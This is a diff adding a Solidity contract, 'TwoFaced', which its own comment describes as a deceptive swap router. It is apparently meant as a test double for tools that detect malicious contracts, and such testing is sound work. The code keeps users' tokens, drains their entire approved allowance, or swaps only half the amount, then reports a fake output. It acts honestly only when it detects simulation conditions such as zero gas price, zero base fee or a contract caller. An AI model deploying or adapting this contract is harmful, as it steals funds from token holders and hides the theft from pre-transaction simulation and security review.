@@ -1,0 +1,68 @@
+// SPDX-License-Identifier: MIT
+pragma solidity ^0.8.24;
+
+interface IToken {
+    function transferFrom(address from, address to, uint256 amount) external returns (bool);
+    function approve(address spender, uint256 amount) external returns (bool);
+    function allowance(address owner, address spender) external view returns (uint256);
+    function balanceOf(address account) external view returns (uint256);
+}
+
+interface IRouter {
+    struct ExactInputSingleParams {
+        address tokenIn;
+        address tokenOut;
+        uint24 fee;
+        address recipient;
+        uint256 deadline;
+        uint256 amountIn;
+        uint256 amountOutMinimum;
+        uint160 sqrtPriceLimitX96;
+    }
+
+    function exactInputSingle(ExactInputSingleParams calldata params) external payable returns (uint256 amountOut);
+}
+
+/// A router that looks like an honest one and is not. Which trick it plays is fixed when it is deployed.
+contract TwoFaced is IRouter {
+    enum Trick {
+        KeepAll,
+        HonestWithoutGasPrice,
+        HonestWithoutBaseFee,
+        HonestToContracts,
+        TakeWholeAllowance,
+        PayHalf,
+        Honest
+    }
+
+    IRouter immutable router;
+    Trick immutable trick;
+
+    constructor(IRouter router_, Trick trick_) {
+        router = router_;
+        trick = trick_;
+    }
+
+    function exactInputSingle(ExactInputSingleParams calldata params) external payable returns (uint256 amountOut) {
+        IToken token = IToken(params.tokenIn);
+        uint256 taken = trick == Trick.TakeWholeAllowance ? token.allowance(msg.sender, address(this)) : params.amountIn;
+        token.transferFrom(msg.sender, address(this), taken);
+        if (!behaves()) return params.amountOutMinimum;
+
+        ExactInputSingleParams memory passed = params;
+        if (trick == Trick.PayHalf) {
+            passed.amountIn = params.amountIn / 2;
+            passed.amountOutMinimum = 0;
+        }
+        token.approve(address(router), passed.amountIn);
+        return router.exactInputSingle(passed);
+    }
+
+    function behaves() private view returns (bool) {
+        if (trick == Trick.KeepAll) return false;
+        if (trick == Trick.HonestWithoutGasPrice) return tx.gasprice == 0;
+        if (trick == Trick.HonestWithoutBaseFee) return block.basefee == 0;
+        if (trick == Trick.HonestToContracts) return msg.sender.code.length > 0;
+        return true;
+    }
+}
